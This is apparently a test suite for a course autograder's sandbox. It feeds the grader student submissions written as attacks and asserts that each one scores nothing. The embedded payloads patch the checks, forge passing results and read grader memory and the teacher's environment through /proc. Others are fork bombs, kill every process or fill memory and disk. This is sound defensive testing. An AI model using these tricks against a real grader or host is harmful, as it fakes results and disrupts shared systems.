"""Attacks on the grade, each by an answer that is wrong and must score nothing.

ATTACKS are those that level L0 promises to withstand. CONFINED holds those that take Landlock,
another user or namespaces, levels L1 to L3. At L1 they run as a user without privileges.
"""

import json
import os
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import pytest
from data import other_user

from attnlearn.__main__ import main
from attnlearn.exercise import MIME
from attnlearn.grading import bank, notebook, release, source
from attnlearn.grading.isolation import sandbox

pytestmark = pytest.mark.xdist_group(__name__)  # what its tests share is made once

SCRIPT = '''\
# %% [markdown]
# # Locks
#
# Read first: *Locks* in [chapter 9](x.ipynb).

# %% setup
import numpy as np

from attnlearn.exercise import check

# %% answer lock-1 points=4 minutes=5 difficulty=1 forbid=numpy.cumsum
def total(x):
    """The sums of the rows up to each entry."""
    # BEGIN SOLUTION
    return np.add.accumulate(x, axis=-1)
    # END SOLUTION

# %% check lock-1
case = check("lock-1", seconds=5)
_rows = 2
case("one row", lambda rng: total(rng.normal(size=(1, 4))))
case("many rows", lambda rng: total(rng.normal(size=(3, 4))))

# %% hidden lock-1
case = check("lock-1", seconds=5)
case("secret sizes", lambda rng: total(rng.normal(size=(_rows, 7))), weight=2)

# %% wrong lock-1 nothing added
# Each entry is a sum.
def total(x):
    return x

# %% answer lock-2 points=1 minutes=5 difficulty=1
def largest(x):
    # BEGIN SOLUTION
    return x.max()
    # END SOLUTION

# %% check lock-2
case = check("lock-2")
_rows = "not those of lock-1"
case("five", lambda rng: largest(rng.normal(size=5)))

# %% wrong lock-2 smallest
# The other end.
def largest(x):
    return x.min()
'''
WRONG = "def total(x):\n    return x * 0\n"
LARGEST = "def largest(x):\n    return x.max()\n"
SEND = f"""\
import json, IPython
def send(name, value):
    record = {{"task": "lock-1", "name": name, "value": value}}
    IPython.display.display({{"{MIME}": record, "text/plain": "x"}}, raw=True)
"""
SEND_ALL = "for name, value in PUBLIC.items():\n    send(name, value)\n"
IN_CASE = "def total(x):\n" + "".join(f"    {line}\n" for line in SEND_ALL.splitlines())

# PUBLIC becomes {case: value} under the public seed, RIGHT those under the secret one.
ATTACKS = {
    "none": WRONG,
    "everything is close": WRONG + "np.allclose = np.array_equal = lambda *a, **k: True\n",
    "equal to anything": """\
class Same:
    __array__ = lambda self, *a, **k: np.zeros(1)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    dtype = float
    detach = cpu = resolve_conj = resolve_neg = numpy = lambda self: self
def total(x):
    return Same()
""",
    "no traceback": WRONG + "get_ipython().showtraceback = lambda *a, **k: None\n1 / 0\n",
    "says that it passed": WRONG + "import os\nprint('lock-1: all 3 checks pass.')\n"
    "os.write(1, b'lock-1 PASSED 4 of 4 points')\n",
    "skipped": "# NBVAL_SKIP\n" + WRONG,
    "sends values in its cell": SEND + WRONG + SEND_ALL.replace("PUBLIC", "RIGHT"),
    "sends right values in a case": SEND
    + IN_CASE.replace("PUBLIC", "RIGHT")
    + "    return x * 0\n",
    "sends from a thread": SEND
    + WRONG
    + """\
import threading, time
def later():
    for _ in range(40):
        time.sleep(0.05)
        for name, value in RIGHT.items():
            send(name, value)
threading.Thread(target=later, daemon=True).start()
""",
    "sends after each cell": SEND
    + WRONG
    + "get_ipython().events.register('post_run_cell', lambda *a: ["
    "send(n, v) for n, v in RIGHT.items()])\n",
    "public values": "from attnlearn.exercise import cases\n"
    + WRONG
    + "cases.Cases._value = lambda self, name, f: PUBLIC[name]\n",
    "patches the check": "from attnlearn.exercise import cases\n"
    + WRONG
    + "cases.Cases._value = lambda self, name, f: RIGHT[name]\n"
    "cases.encode = lambda value: list(RIGHT.values())[0]\n",
    "the seed is zero": "import os\nos.environ['ATTNLEARN_SEED'] = '0'\n"
    "def total(x):\n    import base64\n"
    "    for value in PUBLIC.values():\n"
    "        if value['shape'] == list(x.shape):\n"
    "            return np.frombuffer(base64.b64decode(value['b64'])).reshape(x.shape)\n",
    "no chance": "np.random.RandomState = lambda seed: type('R', (), "
    "{'normal': lambda self, size: np.zeros(size)})()\n" + WRONG,
    "asks for the table": "from attnlearn.exercise import tables\n"
    "def total(x):\n    return tables.find('lock-1')['cases'][0]['value']\n",
    "pickles": "class P:\n    def __reduce__(self):\n"
    "        return (open, (TARGET, 'w'))\ndef total(x):\n    return P()\n",
    "garbage on the wire": WRONG + "socket = get_ipython().kernel.iopub_socket\n"
    "for _ in range(50):\n    socket.send_multipart([b'x', b'<IDS|MSG>', b'[' * 5000])\n",
    "odd values": SEND + "def total(x):\n"
    "    send('one row', {'k': 'array', 'dtype': 'V9', 'shape': [1e9], 'b64': 3})\n"
    "    raise KeyboardInterrupt\n",
    "forbidden by another name": "def total(x):\n    return getattr(np, 'cum' + 'sum')(x, -1)\n",
    "forbidden, alarms off": "from attnlearn.exercise import forbid\n"
    "forbid.found_in = lambda *a: None\n"
    "def total(x):\n    return np.cumsum(x, -1)\n",
    "writes results": WRONG
    + """\
import subprocess, sys
subprocess.Popen(
    [sys.executable, "-c", '''
import time
while True:
    try:
        open(TARGET, "w").write("{\\\\"score\\\\": 5}")
    except OSError:
        pass
    time.sleep(0.01)
'''], start_new_session=True)
""",
}
HONEST = "def total(x):\n    return np.add.accumulate(x, axis=-1)\n"
# At L0 these may succeed, and results say so; all others promise to withstand them. They run in
# this order. TAKE runs what it got as an answer.
TAKE = """\
def take(text):
    if "# BEGIN SOLUTION" in str(text):
        found = text.split("# BEGIN SOLUTION")[1].split("# END")[0]
        exec("def total(x):" + found, globals())
"""
LEFT = "total = lambda x: np.add.accumulate(x, axis=-1)  # BEGIN LEFT"
CONFINED = {
    "leaves the solution behind": WRONG
    + f"""\
import ctypes, os
from ipykernel.connect import get_connection_file
meeting = os.path.dirname(get_connection_file())
for folder in ["/tmp", "/var/tmp", "/dev/shm", ".", "..", meeting]:
    try:
        open(folder + "/left.txt", "w").write({LEFT!r})
    except OSError:
        pass
LIBC = ctypes.CDLL(None)
LIBC.shmat.restype = ctypes.c_void_p
own = LIBC.shmget(4711, 4096, 0o1666)
if own >= 0:
    ctypes.memmove(LIBC.shmat(own, None, 0), {LEFT!r}.encode(), 60)
""",
    "finds what was left": WRONG
    + """\
import ctypes, pathlib
for folder in ["/tmp", "/var/tmp", "/dev/shm", ".", ".."]:
    try:
        for path in pathlib.Path(folder).rglob("left.txt"):
            exec(path.read_text())
    except OSError:
        pass
LIBC = ctypes.CDLL(None)
LIBC.shmat.restype = ctypes.c_void_p
own = LIBC.shmget(4711, 4096, 0o666)
if own >= 0:
    exec(ctypes.string_at(LIBC.shmat(own, None, 0)))
""",
    "reads the solution from disk": WRONG
    + TAKE
    + """\
import os, pathlib
for read in (
    lambda: open(SCRIPT).read(),
    lambda: (os.symlink(SCRIPT, "soft"), open("soft").read())[1],
    lambda: (os.link(SCRIPT, "hard"), open("hard").read())[1],
    lambda: [p.read_text() for p in pathlib.Path(SCRIPT).parents[-2].rglob("92_locks.py")][0],
):
    try:
        take(read())
    except (OSError, IndexError):
        pass
""",
    "reads the grader": WRONG
    + TAKE
    + """\
import os
for pid in [os.getppid(), *range(os.getpid() - 300, os.getpid())]:
    for name in ("environ", "cmdline"):
        try:
            if b"hush" in open(f"/proc/{pid}/{name}", "rb").read():
                total = lambda x: np.add.accumulate(x, axis=-1)
        except OSError:
            pass
    try:
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps"):
            first, last = (int(end, 16) for end in line.split()[0].split("-"))
            memory.seek(first)
            take(memory.read(last - first).decode("latin-1"))
    except (OSError, ValueError, OverflowError):
        pass
""",
    "calls for help": WRONG
    + TAKE
    + """\
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind) as call:
            call.settimeout(2)
            call.connect(("127.0.0.1", PORT))
            call.send(b"?")
            take(call.recv(9999).decode())
    except OSError:
        pass
""",
    "writes results": WRONG + "open(RESULT, 'w').write('{}')\n",
    "stops the other kernels": WRONG
    + """\
import os, resource, signal
for pid in [os.getppid(), *range(2, 100_000)]:
    if pid != os.getpid():
        for attack in (
            lambda: os.kill(pid, signal.SIGKILL),
            lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            lambda: os.sched_setaffinity(pid, {0}),
        ):
            try:
                attack()
            except OSError:
                pass
""",
    "starts too many processes": WRONG + "import os, time\nwhile True:\n"
    "    try:\n"
    "        os.fork() or time.sleep(60) or os._exit(0)\n    except OSError:\n        pass\n",
    "hands over to a child, again and again": WRONG
    + """\
import os, time
end = time.monotonic() + 15
if os.fork() == 0:
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        os.setsid()
    os._exit(0)
""",
    "takes memory in many processes": WRONG
    + """\
import os, time
for _ in range(10):
    if os.fork() == 0:
        own = b"x" * (120 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    "takes memory for tables of pages": WRONG
    + """\
import ctypes, time
LIBC = ctypes.CDLL(None)
LIBC.mmap.restype = ctypes.c_void_p
EMPTY = 1 << 34
for _ in range(40):
    at = LIBC.mmap(None, ctypes.c_size_t(EMPTY), 1, 0x4022, -1, ctypes.c_long(0))
    LIBC.madvise(ctypes.c_void_p(at), ctypes.c_size_t(EMPTY), 15)
    for page in range(at, at + EMPTY, 1 << 21):
        ctypes.c_char.from_address(page).value
time.sleep(5)
""",
    "fills the disk": WRONG
    + "n = 0\nwhile True:\n    n += 1\n    open(f'full{n}', 'wb').write(bytes(2 << 20))\n",
}
TIGHT = {"total-memory-mb": 900, "processes": 20, "disk-mb": 48}
# What the student reads; Linux itself keeps the disk of L3 free, so there it is another error.
STOPPED = {
    "writes results": "Error",
    "stops the other kernels": "",  # its own threads get its limits, and may die of them
    "starts too many processes": "too many processes",
    "hands over to a child, again and again": "",  # each that is over counts until it is cleared
    "takes memory in many processes": "too much memory",
    "takes memory for tables of pages": "too much memory",
    "fills the disk": "too much to disk",
}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A folder with an exercise, and one submission for each attack."""
    folder = tmp_path_factory.mktemp("course")
    script = folder / "solutions" / "92_locks.py"
    script.parent.mkdir()
    script.write_text(SCRIPT)
    exercise = source.read(script)
    values = {
        name: bank.values(bank.run(exercise, task, task.solved, seed=seed, hidden=True))
        for name, seed in (("PUBLIC", 0), ("RIGHT", "hush"))
        for task in [exercise.tasks["lock-1"]]
    }
    for number, code in enumerate(ATTACKS.values()):
        target = folder / "out" / "results" / f"s{number:02}.json"
        code = code.replace("TARGET", repr(str(target)))
        for name, known in values.items():
            code = code.replace(name, repr(known))
        hand_in(exercise, folder / "in" / f"s{number:02}.ipynb", code)
    return folder


def hand_in(exercise, path, code, other=LARGEST):
    content = release.exercise_notebook(exercise)
    for cell in content["cells"]:
        if cell["id"] == "lock-1-answer":
            cell["source"] = f"# EXERCISE: lock-1\n{code}"
        if cell["id"] == "lock-2-answer":
            cell["source"] = f"# EXERCISE: lock-2\n{other}"
    notebook.write(path, notebook.dumps(content))


def arguments(course, level):
    command = ["grade", str(course / "in"), "--assignment", "92_locks", "--seed", "hush"]
    command += ["--exercises", str(course), "--out", str(course / "out")]
    return [*command, "--sandbox", level, "--allow-weak-sandbox", "--cell-seconds", "20"]


def results(course, numbers):
    paths = [course / "out" / "results" / f"s{number:02}.json" for number in numbers]
    return [json.loads(path.read_text("utf-8")) for path in paths]


@pytest.fixture(scope="module")
def graded(course):
    """{attack: result} at L0."""
    os.environ["TOKEN_OF_THE_TEACHER"] = "do not look"
    assert main(arguments(course, "L0")) == 0
    return dict(zip(ATTACKS, results(course, range(len(ATTACKS))), strict=True))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_wrong_answer_scores_nothing(graded, name):
    attacked, other = graded[name]["exercises"]
    assert attacked["earned"] == 0, attacked
    assert not any(case["passed"] for case in attacked["cases"])
    assert other["earned"] == 1, other


@pytest.fixture(scope="module")
def python():
    with tempfile.TemporaryDirectory(prefix="python-") as folder:
        os.chmod(folder, 0o755)
        yield other_user.python(folder) or pytest.skip("no Python that other users can start")


@pytest.fixture(scope="module")
def helper():
    """Somebody on the network who knows the solution: a port that answers by TCP and UDP."""
    udp = socket.socket(type=socket.SOCK_DGRAM)
    with socket.create_server(("127.0.0.1", 0)) as tcp, udp:
        udp.bind(tcp.getsockname())

        def answer():
            try:
                while True:
                    with tcp.accept()[0] as call:
                        call.send(SCRIPT.encode())
            except OSError:
                pass

        def reply():
            try:
                while True:
                    udp.sendto(SCRIPT.encode(), udp.recvfrom(99)[1])
            except OSError:
                pass

        for work in (answer, reply):
            threading.Thread(target=work, daemon=True).start()
        yield tcp.getsockname()[1]


@pytest.fixture(scope="module", params=["L1", "L2", "L3"])
def confined(request, course, helper, python):
    """{attack: result} at a level; the last answer is an honest one."""
    level = request.param
    user = other_user.NOBODY if level == "L1" else None
    with tempfile.TemporaryDirectory(prefix="course-") as folder:
        own = Path(folder)
        shutil.copytree(course / "solutions", own / "solutions")
        exercise = source.read(own / "solutions" / "92_locks.py")
        for number, code in enumerate([*CONFINED.values(), HONEST]):
            known = {
                "SCRIPT": str(own / "solutions" / "92_locks.py"),
                "RESULT": str(own / "out" / "results" / "s00.json"),
                "PORT": helper,
            }
            for name, value in known.items():
                code = code.replace(name, repr(value))
            hand_in(exercise, own / "in" / f"s{number:02}.ipynb", code)
        if other_user.IS_ROOT and user:
            for path in (own, *own.rglob("*")):
                os.chown(path, user, user)
        command = [python, "-m", "attnlearn", *arguments(own, level), "-j", "1"]
        command += [word for name, most in TIGHT.items() for word in (f"--{name}", str(most))]
        done = other_user.run(command, user)
        if "does not work on this machine" in done.stderr:
            pytest.skip(done.stderr)
        assert done.returncode == 0, done.stdout + done.stderr
        names = [*CONFINED, "honest"]
        return dict(zip(names, results(own, range(len(names))), strict=True))


def test_what_confines_keeps_out(confined):
    for name in CONFINED:
        attacked, other = confined[name]["exercises"]
        assert attacked["earned"] == 0, (name, attacked)
        assert other["earned"] == 1, (name, other)
        notes = " ".join(attacked["notes"])
        if STOPPED.get(name) != "":
            assert bool(notes) == (name in STOPPED), (name, notes)  # the others ran to the end
        if confined[name]["sandbox"]["level"] != "L3":
            assert STOPPED.get(name, "") in notes


def test_an_honest_answer_gets_its_points(confined):
    assert confined["honest"]["score"] == confined["honest"]["max_score"] == 5


def test_a_level_that_does_not_work_here_is_refused(course, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox.Box, "works", lambda self: False)
    for weaker in (sandbox.OtherUser, sandbox.Landlocked):
        monkeypatch.setattr(weaker, "works", lambda self: False)
    command = ["grade", str(course / "in"), "--assignment", "92_locks", "--exercises"]
    command += [str(course), "--out", str(tmp_path / "out")]
    assert main([*command, "--sandbox", "L3"]) == 1
    assert "sandbox L3 does not work on this machine" in capsys.readouterr().err
    assert main(command) == 1
    assert "this run has L0" in capsys.readouterr().err


REPORTED = {
    "sends right values in a case": "two values arrived for one case",
}


@pytest.mark.parametrize("name", REPORTED)
def test_the_teacher_is_told(graded, name):
    assert any(REPORTED[name] in finding for finding in graded[name]["findings"])


def test_nothing_was_unpickled(course, graded):
    number = list(ATTACKS).index("pickles")
    assert (
        json.loads((course / "out" / "results" / f"s{number:02}.json").read_text())["version"] == 1
    )


TELLTALE = """\
import base64, os
seen = []
def total(x):
    seen.append(x.shape)
    raise ValueError(f"{os.environ.get('TOKEN_OF_THE_TEACHER')} {seen}")
"""
TELLTALE_2 = "def largest(x):\n    raise ValueError(str(seen) + str(globals().keys()))\n"


def test_hidden_cases_and_the_teachers_secrets_do_not_leak(course, graded, tmp_path):
    exercise = source.read(course / "solutions" / "92_locks.py")
    hand_in(exercise, tmp_path / "spy.ipynb", TELLTALE, TELLTALE_2)
    command = ["grade", str(tmp_path / "spy.ipynb"), "--assignment", "92_locks", "--seed", "hush"]
    command += ["--exercises", str(course), "--out", str(tmp_path / "out")]
    assert main([*command, "--sandbox", "L0", "--allow-weak-sandbox"]) == 0
    for path in (tmp_path / "out" / "results" / "spy.json", tmp_path / "out/feedback/spy.html"):
        text = path.read_text("utf-8")
        assert "(1, 4)" in text
        assert "(2, 7)" not in text
        assert "secret sizes" not in text
        assert "do not look" not in text


# In the second pass the answer tells what it has seen, where only visible cases may speak.
TELLS = {
    "a missing name": " = ".join(f"rows_{n}_{m}" for n in range(9) for m in range(9))
    + """ = 0
def total(x):
    raise NameError(f"name 'rows_{x.shape[0]}_{x.shape[1]}' is not defined")
""",
    "what is forbidden": """\
import IPython, linecache, sys
passes = vars(sys).setdefault("passes", [IPython.display.display])
IPython.display.display = passes[0] if len(passes) > 1 else lambda *a, **k: None
passes.append(1)
class Forbidden(Exception):
    pass
def total(x):
    raise Forbidden("".join(linecache.getlines(sys._getframe(1).f_code.co_filename)))
""",
}


@pytest.mark.parametrize("way", TELLS)
def test_notes_are_on_visible_cases(course, tmp_path, way):
    exercise = source.read(course / "solutions" / "92_locks.py")
    hand_in(exercise, tmp_path / "spy.ipynb", TELLS[way])
    command = ["grade", str(tmp_path / "spy.ipynb"), "--assignment", "92_locks", "--seed", "hush"]
    command += ["--exercises", str(course), "--out", str(tmp_path / "out")]
    assert main([*command, "--sandbox", "L0", "--allow-weak-sandbox"]) == 0
    text = (tmp_path / "out" / "results" / "spy.json").read_text("utf-8")
    assert "rows_2_7" not in text
    assert "secret sizes" not in text
